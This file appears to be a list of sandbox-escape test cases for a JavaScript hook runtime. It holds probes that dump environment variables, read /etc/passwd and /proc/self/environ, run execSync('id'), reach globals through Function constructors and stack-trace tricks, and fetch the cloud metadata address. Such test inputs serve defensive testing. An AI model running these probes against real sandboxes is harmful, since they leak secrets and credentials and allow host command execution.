//--- process
return { a: typeof process === "undefined" ? "none" : JSON.stringify(process.env) };
//--- require
return { a: require("fs").readFileSync("/etc/passwd", "utf8") };
//--- dynamic require
return { a: (0, eval)("typeof require === 'function' ? require('child_process').execSync('id').toString() : 'none'") };
//--- function constructor of the context
return { a: String(ctx.constructor.constructor("return typeof process")()) };
//--- function constructor of a host function
return { a: String(ctx.log.info.constructor("return this")() === globalThis) };
//--- global names
return { a: Object.getOwnPropertyNames(globalThis).join(" ") };
//--- every function's text
let s = ""; for (const k of Object.getOwnPropertyNames(globalThis)) try { s += String(globalThis[k]); } catch { } return { a: s.slice(0, 5e5) };
//--- go values
let s = ""; for (const k of Object.getOwnPropertyNames(ctx)) s += k + typeof ctx[k] + Object.prototype.toString.call(ctx[k]); return { a: s };
//--- caller and arguments
function f() { return f.caller && f.caller.arguments; } return { a: String(f()) };
//--- prepare stack trace
Error.prepareStackTrace = (e, frames) => frames; return { a: String(new Error("x").stack) };
//--- stack of a host function
try { ctx.db.collection({ toString() { throw new Error("in the host"); } }); } catch (e) { return { a: String(e.stack) }; } return { a: "none" };
//--- environment of the hook
return { a: JSON.stringify(ctx.env) };
//--- fetch in a transaction
return fetch("http://169.254.169.254/latest/meta-data/").then((r) => r.text()).then((a) => ({ a }));
//--- fetch by the context
return ctx.fetch("http://127.0.0.1:8080/").then((r) => r.text()).then((a) => ({ a }));
//--- web socket
return { a: typeof WebSocket + typeof XMLHttpRequest + typeof Worker + typeof SharedArrayBuffer + typeof WebAssembly };
//--- source map of a device
eval("throw 1;//# sourceMappingURL=file:///dev/zero"); return { a: 1 };
//--- source map of a file
new Function("return 1\n//# sourceMappingURL=/etc/passwd")(); return { a: 1 };
//--- source map of the process
try { eval("null.x\n//# sourceMappingURL=/proc/self/environ"); } catch (e) { return { a: String(e.stack) }; }
//--- module import of a file
import data from "/etc/passwd";
export default { beforeWrite() { return { data }; } };
//--- module import of the environment
import data from "/proc/self/environ";
export default { beforeWrite() { return { data }; } };
//--- module import of a relative file
import data from "../../../../../../etc/passwd";
export default { beforeWrite() { return { data }; } };
//--- module import of a url
import x from "https://example.com/x.js";
export default { beforeWrite() { return { x }; } };
//--- module import of node
import { readFileSync } from "node:fs";
export default { beforeWrite() { return { a: readFileSync("/etc/passwd", "utf8") }; } };
//--- module dynamic import
export default { async beforeWrite() { return { a: await import("/etc/passwd") }; } };
//--- module source map comment
export default { beforeWrite() { throw new Error("x"); } };
//# sourceMappingURL=file:///dev/zero
//--- module inline source map of lies
export default { beforeWrite() { throw new Error("x"); } };
//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbIi9ldGMvcGFzc3dkIl0sIm1hcHBpbmdzIjoiQUFBQSJ9
